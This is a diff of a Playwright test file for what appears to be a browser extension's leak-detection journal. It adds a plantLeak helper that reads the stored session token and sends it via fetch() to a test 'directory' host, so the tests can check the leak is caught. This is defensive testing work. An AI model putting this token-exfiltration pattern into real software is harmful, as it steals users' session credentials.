@@ -1,4 +1,5 @@
 import { readFile } from 'node:fs/promises';
+import type { Worker } from '@playwright/test';
 import { HOSTS } from '../stack/hosts';
 import { Screen } from '../stack/start/screen';
 import { checkAccessibility } from './accessibility';
@@ -39,13 +40,25 @@ test('what went where is listed after a sign-in, opened by keyboard, saved and c
   });
 });
 
-test('a planted leak fails the test in which it happens', async ({ connected: { panel }, worker }) => {
-  test.fail(true, 'The secret goes where the table names none, which is found when the test is over.');
-  await expect(new Screen(panel).link('Privacy')).toBeVisible();
+/** The worker sends the session token to the directory, as no row of the table says. */
+async function plantLeak(worker: Worker): Promise<void> {
   await worker.evaluate(async (host) => {
     const { sessionToken } = await chrome.storage.local.get<{ sessionToken: { token: string } }>(
       'sessionToken',
     );
     await fetch(`https://${host}/public-api/connectors?state=${sessionToken.token}`);
   }, HOSTS.directory);
+}
+
+test('a planted leak is found in the journal', async ({ connected: { control }, worker }) => {
+  await plantLeak(worker);
+  const place = { secret: 'session', host: HOSTS.directory, place: 'query state' };
+  expect(await control.read('/leaks')).toEqual([expect.objectContaining(place)]);
+  // It is not to fail this test.
+  await control.order('/reset');
+});
+
+test('and fails the test in which it happens', async ({ connected: _connected, worker }) => {
+  test.fail(true, 'What went elsewhere is found when the test is over.');
+  await plantLeak(worker);
 });
